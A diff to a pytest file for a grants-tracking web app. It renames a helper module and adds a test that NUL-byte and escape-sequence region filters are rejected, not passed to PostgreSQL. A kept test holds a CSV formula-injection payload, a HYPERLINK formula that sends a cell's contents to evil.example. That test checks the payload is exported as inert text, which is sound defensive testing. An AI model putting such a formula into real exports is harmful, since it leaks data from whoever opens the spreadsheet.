@@ -6,7 +6,7 @@ import pytest
 from sqlalchemy import func, select
 
 from tests.conftest import LAMBETH_GRANTEE, OFFICER, csrf_token_from, text_of
-from tests.hostile.cases import first_return
+from tests.hostile.things import first_return
 from tracker.models import EvidenceFile
 
 
@@ -77,8 +77,8 @@ def test_a_stream_named_like_a_formula_is_text_in_the_dashboard_figures_csv(sign
     =HYPERLINK(...) ran in the spreadsheet of whoever opened the download."""
     import csv as csv_module
 
-    from tests.hostile.cases import stream
     from tests.hostile.posting import example_savepoint
+    from tests.hostile.things import stream
 
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Figures")'
     with example_savepoint(transaction):
@@ -95,3 +95,25 @@ def test_a_stream_named_like_a_formula_is_text_in_the_dashboard_figures_csv(sign
         ]
         assert "'" + formula in cells
         assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+
+@pytest.mark.parametrize("region", ["\x00", "London\x00", "\x1b[31m"])
+def test_a_region_filter_with_a_nul_byte_is_not_read_rather_than_sent_to_the_database(
+    signed_in, region
+):
+    """Was a 500 on PostgreSQL, which refuses a NUL in text: the exports read the region from
+    the query string and passed it to the query as it was."""
+    from urllib.parse import urlencode
+
+    from tests.reading import value_of
+
+    visitor = signed_in(OFFICER)
+    query = urlencode({"region": region})
+
+    page = visitor.get(f"/exports?{query}")
+    download = visitor.get(f"/exports/allocations.csv?{query}")
+
+    assert page.status_code == 200
+    assert value_of(page, "region") in {None, ""}  # shown as not chosen
+    assert download.status_code == 400
+    assert "There is a problem with your request" in text_of(download)
